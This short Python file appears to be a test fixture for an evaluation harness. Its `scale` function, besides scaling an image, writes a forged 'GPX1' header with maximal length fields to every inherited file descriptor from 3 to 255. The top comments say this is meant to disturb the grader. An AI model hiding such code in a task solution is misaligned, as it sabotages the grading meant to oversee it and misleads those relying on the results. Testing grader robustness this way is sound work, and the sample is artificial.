# Writes the head of a message that would be endless.
# expect: failed values crashed
# says: scale disturbed the grader
import os
import struct


def scale(image, factor):
    for number in range(3, 256):
        try:
            os.write(number, struct.pack("!4sIQ", b"GPX1", 2**32 - 1, 2**64 - 1))
        except OSError:
            pass
    return image * factor
